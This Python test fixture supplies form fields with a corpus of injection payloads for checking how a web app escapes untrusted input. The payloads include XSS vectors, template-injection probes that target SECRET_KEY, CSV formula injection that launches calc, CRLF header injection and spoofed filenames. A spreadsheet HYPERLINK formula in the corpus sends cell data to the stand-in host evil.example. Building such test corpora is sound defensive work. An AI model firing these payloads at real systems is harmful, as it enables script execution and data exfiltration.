"""What is put into the fields: plain words, or a corpus of what an attacker would write into an alert."""

from __future__ import annotations

from itertools import count

MARK = "data-owned"  # on every element that would have come from a text
ELSEWHERE = "evil.example"
SUM, WRONG = "{{71*83}}", "5893"  # what a template would make of it
HOSTILE = (
    f"<script {MARK}>alert(1)</script>",
    f"\"><img {MARK} src=x onerror=alert(2)>",
    f"'><svg {MARK} onload=alert(3)><animate {MARK} onbegin=alert(3) attributeName=x></svg>",
    "javascript:alert(4)",
    f"[click](javascript:alert(5)) ![i](https://{ELSEWHERE}/p.png) <javascript:alert(5)>",
    f"<a {MARK} href=\"java\tscript:alert(6)\">x</a>",
    f"\" autofocus onfocus=alert(7) {MARK} x=\"",
    f"' onmouseover=alert(8) {MARK} style=position:fixed;inset:0 x='",
    f"</title></textarea></select></style></script><b {MARK}>9</b>",
    f"{SUM}${{71*83}}<%=71*83%>#{{71*83}}{{% debug %}}{{{{ settings.SECRET_KEY }}}}",
    f"<iframe {MARK} src=//{ELSEWHERE}/f srcdoc='<script>alert(11)</script>'></iframe>",
    f"<style {MARK}>*{{display:none}}</style><link {MARK} rel=stylesheet href=//{ELSEWHERE}/c.css>",
    f"<form {MARK} action=//{ELSEWHERE}><button {MARK} formaction=//{ELSEWHERE}>x",
    f"<base {MARK} href=//{ELSEWHERE}/><meta {MARK} http-equiv=refresh content=\"0;url=//{ELSEWHERE}/\">",
    f"=HYPERLINK(\"http://{ELSEWHERE}/?\"&A1,\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0",
    "\t=1+1",
    "invoice\u202egpj.exe \u2066x\u2069",
    "a\u200bd\u200dm\u2060i\ufeffn",
    "W" * 90,
    f"--><!--]]><![CDATA[<b {MARK}>x</b>]]>",
    f"&lt;b {MARK}&gt; &#x3c;b {MARK}&#x3e; &amp;lt;b {MARK}&amp;gt;",
    f"<div {MARK} hx-get=/accounts/logout/ hx-trigger=load hx-on:load=alert(12)>x</div>",
    "';alert(13);//\\\";alert(13);//</script>",
    "name\r\nSet-Cookie: owned=1\r\n\r\n{\"level\":\"ERROR\"}",
    "Z̡̛̖͍̗͑ͫ̓ͪa̡͊͠͝ļ͖͖̠͍̹ģ͙̠̙̞̲ͫ͛ͫ͢ơ̴̩̪̞̥͛",
)  # fmt: skip


class Words:
    """Texts one after the other, plain or hostile. ``one_line``: for what refuses line breaks."""

    def __init__(self, *, hostile: bool) -> None:
        self._hostile, self._number = hostile, count()

    def text(self, longest: int = 10_000, number: int | None = None) -> str:
        """The next one, or that with this number."""
        number = next(self._number) if number is None else number
        found = HOSTILE[number % len(HOSTILE)] if self._hostile else f"Words {number} about it"
        return found[:longest]

    def line(self, longest: int = 10_000) -> str:
        """The next one, without line breaks, for fields that refuse them."""
        return " ".join(self.text().split())[:longest]
